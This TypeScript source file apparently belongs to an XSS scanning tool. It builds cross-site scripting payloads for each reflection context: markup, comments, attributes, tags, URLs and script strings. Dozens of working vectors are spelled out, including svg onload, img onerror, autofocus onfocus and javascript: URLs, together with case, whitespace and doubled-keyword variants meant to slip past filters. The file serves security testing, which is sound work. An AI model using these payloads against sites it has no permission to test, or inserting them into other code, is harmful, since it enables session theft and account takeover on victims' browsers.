import type { Reflection } from './reflection.ts';
import { attributeCalls, calls } from './script-calls.ts';
import { endOfValue, pixel } from './xss-payloads.ts';

/** What stands around a piece of code so that a browser runs it. */
export type ScriptFrame = {
  /** Code has no white space, quotes or angle brackets. */
  around: (code: string) => string;
  /** Code that can stand in it. */
  calls: readonly string[];
  /** What has to be clicked on, with the nonce of the code. */
  clicks?: string[];
  /** Takes in what follows, so that nothing else can be sent behind it. */
  isOpen?: true;
};

const handler = (around: ScriptFrame['around'], more: Partial<ScriptFrame> = {}): ScriptFrame => ({
  around,
  calls: attributeCalls,
  ...more,
});
const script = (around: ScriptFrame['around']): ScriptFrame => ({ around, calls });
const clickable = (around: ScriptFrame['around'], selector: string): ScriptFrame =>
  handler(around, { clicks: [`${selector}*="‹nonce›"]`] });

/** Markup that runs code, most of it by itself: other elements, other handlers, other spellings. */
const markupFrames: readonly ScriptFrame[] = [
  handler((code) => `<svg onload=${code}>`),
  handler((code) => `<img src=x onerror=${code}>`),
  script((code) => `<script>${code}</script>`),
  handler((code) => `<details open ontoggle=${code}>`),
  handler((code) => `<body onload=${code}>`),
  handler((code) => `<input autofocus onfocus=${code}>`),
  handler((code) => `<audio src onerror=${code}>`),
  clickable((code) => `<a href=javascript:${code}>link</a>`, 'a[href'),
  // other handlers
  handler((code) => `<img src=${pixel} onload=${code}>`),
  handler((code) => `<body onpageshow=${code}>`),
  handler((code) => `<video src onloadstart=${code}>`),
  handler((code) => `<input autofocus onfocusin=${code}>`),
  handler((code) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${code}>b</b>`),
  handler((code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`),
  handler((code) => `<p style=content-visibility:auto oncontentvisibilityautostatechange=${code}>p</p>`),
  clickable((code) => `<b onclick=${code}>bold</b>`, 'b[onclick'),
  // other elements
  handler((code) => `<x-a tabindex=1 autofocus onfocus=${code}>`),
  handler((code) => `<b tabindex=1 autofocus onfocus=${code}>b</b>`),
  handler((code) => `<p tabindex=1 autofocus onfocus=${code}>p</p>`),
  handler((code) => `<a href=x tabindex=1 autofocus onfocus=${code}>a</a>`),
  handler((code) => `<select autofocus onfocus=${code}></select>`),
  handler((code) => `<textarea autofocus onfocus=${code}></textarea>`),
  handler((code) => `<button autofocus onfocus=${code}>b</button>`),
  handler((code) => `<video><source onerror=${code}></video>`),
  handler((code) => `<image src=x onerror=${code}>`),
  handler((code) => `<object data=x onerror=${code}></object>`),
  handler((code) => `<link rel=stylesheet href=x onerror=${code}>`),
  handler((code) => `<marquee onstart=${code}>m</marquee>`),
  handler((code) => `<iframe onload=${code}></iframe>`),
  handler((code) => `<iframe src=javascript:parent.${code}></iframe>`),
  handler((code) => `<iframe srcdoc=&lt;svg/onload=parent.${code}&gt;></iframe>`),
  clickable((code) => `<form><button formaction=javascript:${code}>go</button></form>`, 'button[formaction'),
  clickable((code) => `<svg><a href=javascript:${code}><text y=20>link</text></a></svg>`, 'a[href'),
  clickable((code) => `<a href=java&Tab;script:${code}>link</a>`, 'a[href'),
  // other spellings
  handler((code) => `<svg/onload=${code}>`),
  handler((code) => `<svg\nonload=${code}>`),
  handler((code) => `<svg\fonload=${code}>`),
  handler((code) => `<svg onload =${code}>`),
  handler((code) => `<svg onload\n=${code}>`),
  handler((code) => `<sVg oNlOaD=${code}>`),
  script((code) => `<sCrIpT>${code}</sCrIpT>`),
  script((code) => `<script >${code}</script >`),
  script((code) => `<script/x>${code}</script/x>`),
  handler((code) => `<!--><svg onload=${code}>-->`),
  handler((code) => `<<svg onload=${code}>>`),
  // words that are removed once
  script((code) => `<scr<script>ipt>${code}</scr</script>ipt>`),
  script((code) => `<sscriptcript>${code}</sscriptcript>`),
  handler((code) => `<ssvgvg ononloadload=${code}>`),
  handler((code) => `<svg oonnload=${code}>`),
  handler((code) => `<img src=x oonerrornerror=${code}>`),
  handler((code) => `<iimgmg src=x ononerrorerror=${code}>`),
  // without an end
  handler((code) => `<img src=x onerror=${code} `, { isOpen: true }),
  handler((code) => `<svg onload=${code} `, { isOpen: true }),
];

/** One element with each handler that any element can have, for filters that list elements and handlers apart from each other. */
export const elementFrames = (name: string): ScriptFrame[] => [
  handler((code) => `<${name} tabindex=1 autofocus onfocus=${code}>`),
  handler((code) => `<${name} tabindex=1 autofocus onfocusin=${code}>`),
  handler(
    (code) => `<${name} style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${code}>x`,
  ),
  clickable((code) => `<${name} onclick=${code}>x`, `${name}[onclick`),
  clickable((code) => `<${name} onpointerdown=${code}>x`, `${name}[onpointerdown`),
  clickable((code) => `<${name} onmouseover=${code}>x`, `${name}[onmouseover`),
];

/** An element gets handlers, without angle brackets. */
const attributeFrames = (quote: '"' | "'" | ''): ScriptFrame[] => {
  const out = endOfValue(quote);
  const end = ` x=${quote}`;
  return [
    handler((code) => `${out} autofocus tabindex=1 onfocus=${code}${end}`),
    handler((code) => `${out} style=content-visibility:auto oncontentvisibilityautostatechange=${code}${end}`),
    handler((code) => `${out} onload=${code}${end}`),
    handler((code) => `${out} onerror=${code}${end}`),
    clickable((code) => `${out} onclick=${code}${end}`, '[onclick'),
    handler((code) => `${out} autofocus tabindex=1 onfocusin=${code}${end}`),
    clickable((code) => `${out} onpointerdown=${code}${end}`, '[onpointerdown'),
    handler((code) => `${out}/autofocus/tabindex=1/onfocus=${code}/x=${quote}`),
    handler((code) => `${out}\nautofocus\ntabindex=1\nonfocus=${code}\nx=${quote}`),
    handler((code) => `${out} autofocus tabindex=1 oNfOcUs=${code}${end}`),
    handler((code) => `${out} autofocus tabindex=1 onfocus =${code}${end}`),
    handler((code) => `${out} autofocus tabindex=1 oonfocusnfocus=${code}${end}`),
    handler((code) => `${out} autofocus tabindex=1 ononfocus=focus=${code}${end}`),
    // a field whose own type stands behind the value, as that of a hidden one, becomes a picture
    handler((code) => `${out} type=image src=x onerror=${code}${end}`),
  ];
};

const addressFrames = (selector: string): ScriptFrame[] =>
  [
    (code: string) => `javascript:${code}`,
    (code: string) => `JaVaScRiPt:${code}`,
    (code: string) => `java\tscript:${code}`,
    (code: string) => `\u0001javascript:${code}`,
    (code: string) => `javajavascriptscript:${code}`,
    (code: string) => `javascjavascript:ript:${code}`,
    (code: string) => `javascript&colon;${code}`,
    (code: string) => `java&Tab;script:${code}`,
    (code: string) => `&#106;avascript:${code}`,
    (code: string) => `javascript:${code}//https://`,
    (code: string) => `javascript://%0a${code}`,
    (code: string) => `javascript://https://%0a${code}`,
  ].map((around) => ({ ...clickable(around, selector), isOpen: true }));

const stringFrames = (quote: string): ScriptFrame[] =>
  [
    ...['-', '+', '*', ',', '|', '^'].map((sign) => (code: string) => `${quote}${sign}${code}${sign}${quote}`),
    (code: string) => `${quote};${code};${quote}`,
  ].map(script);

/** The rest of the line is left out. */
const lastInLine = (quote: string): ScriptFrame[] =>
  // As it is, and where the quote is escaped but the backslash is not; then what the string may stand in.
  [quote, `\\${quote}`]
    .flatMap((end) => ['', ')', '}', ']', '})', '))'].map((closing) => (code: string) => `${end}${closing};${code}//`))
    .map((around) => ({ ...script(around), isOpen: true }));

const behind = (prefix: string, frames: readonly ScriptFrame[]): ScriptFrame[] =>
  prefix === '' ? [...frames] : frames.map((frame) => ({ ...frame, around: (code) => prefix + frame.around(code) }));

/** Frames for code at the place where a value stands. */
export function framesFor(reflection: Reflection): ScriptFrame[] {
  switch (reflection.kind) {
    case 'markup':
      return behind(reflection.end, markupFrames);
    case 'comment':
      return behind('-->', markupFrames);
    case 'attribute':
      return [...attributeFrames(reflection.quote), ...behind(`${reflection.quote}>`, markupFrames)];
    case 'tag':
      return attributeFrames('');
    case 'url':
      return addressFrames(`${reflection.element}[${reflection.attribute.replace(':', '\\:')}`);
    case 'script':
      return reflection.state === "'" || reflection.state === '"'
        ? [...stringFrames(reflection.state), ...lastInLine(reflection.state), ...behind('</script>', markupFrames)]
        : behind('</script>', markupFrames);
    case 'handler':
      return [];
  }
}
